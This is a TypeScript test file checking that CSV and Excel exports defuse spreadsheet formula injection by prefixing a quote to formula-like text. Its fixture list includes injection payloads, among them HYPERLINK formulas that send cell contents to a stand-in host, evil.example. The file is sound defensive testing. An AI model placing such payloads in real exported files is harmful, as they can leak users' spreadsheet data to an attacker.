import { test } from 'uvu';
import * as assert from 'uvu/assert';
import * as XLSX from 'xlsx';
import { spreadsheetSafe } from '../../src/documents/spreadsheet-safe.ts';
import { toCsv } from '../../src/documents/csv.ts';
import { renderXlsx } from '../../src/documents/xlsx.ts';

/** Each export is opened the way a spreadsheet would (SheetJS reads `=…` in a CSV as a formula). */

const HOSTILE = ['=1+1', '=HYPERLINK("https://evil.example/?x="&A1,"click")', '+81-3-1234-5678', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1'];

type Cell = { t: string; v?: unknown; f?: string };
function cellsOf(buffer: Buffer): Cell[][] {
  const workbook = XLSX.read(buffer, { type: 'buffer', cellFormula: true });
  const sheet = workbook.Sheets[workbook.SheetNames[0]!]!;
  const range = XLSX.utils.decode_range(sheet['!ref']!);
  const rows: Cell[][] = [];
  for (let r = range.s.r; r <= range.e.r; r++) {
    const row: Cell[] = [];
    for (let c = range.s.c; c <= range.e.c; c++) row.push((sheet[XLSX.utils.encode_cell({ r, c })] as Cell | undefined) ?? { t: 'z' });
    rows.push(row);
  }
  return rows;
}

test('formula-looking text gets a leading quote; numbers and number-only text do not', () => {
  for (const text of HOSTILE) assert.is(spreadsheetSafe(text), `'${text}`);
  for (const value of [-1200, 0, 3.5, '-1200', '-1,200', '+5', '-0.25', '株式会社=テスト', 'a-b', '', null]) assert.is(spreadsheetSafe(value), value);
});

test('the raw CSV would run =1+1 as a formula, so the check below is not empty', () => {
  const raw = Buffer.from('"=1+1","-1200"\r\n', 'utf8');
  assert.is(cellsOf(raw)[0]![0]!.f, '1+1');
});

test('a CSV export opens with no formula: hostile text reads back as text, amounts as numbers', () => {
  const csv = toCsv(['name', 'amount', 'amount as text'], [...HOSTILE.map((text, i) => [text, -1200 - i, String(-1200 - i)]), ['普通の会社', 5000, '5000']]);
  const rows = cellsOf(csv).slice(1);
  for (const row of rows) for (const cell of row) assert.is(cell.f, undefined, `formula in ${JSON.stringify(row)}`);
  assert.equal(rows[0]![0], { t: 's', v: "'=1+1" } as Cell);
  assert.is(rows[0]![1]!.t, 'n');
  assert.is(rows[0]![1]!.v, -1200);
  assert.is(rows[0]![2]!.v, -1200, 'a number written as text still reads as a number');
  assert.is(rows[1]![0]!.v, `'${HOSTILE[1]}`);
  assert.equal(rows[7]!.map((c) => c.v), ['普通の会社', 5000, 5000]);
});

test('an Excel export writes hostile text as text cells, never as formulas', async () => {
  const body = await renderXlsx([
    {
      name: 'list',
      title: '=1+1',
      fields: [['顧客', '=HYPERLINK("https://evil.example","x")']],
      columns: [{ header: 'name', key: 'name' }, { header: 'amount', key: 'amount', yen: true }],
      rows: [...HOSTILE.map((name) => ({ name, amount: -1200 })), { name: '普通の会社', amount: 5000 }],
    },
  ]);
  const cells = cellsOf(body).flat();
  for (const cell of cells) assert.is(cell.f, undefined, `formula ${JSON.stringify(cell)}`);
  const texts = cells.filter((c) => c.t === 's').map((c) => c.v);
  for (const text of ['=1+1', '=HYPERLINK("https://evil.example","x")', ...HOSTILE]) assert.ok(texts.includes(text), `${JSON.stringify(text)} is a text cell`);
  assert.ok(cells.some((c) => c.t === 'n' && c.v === -1200), 'amounts stay numbers');
});

test.run();
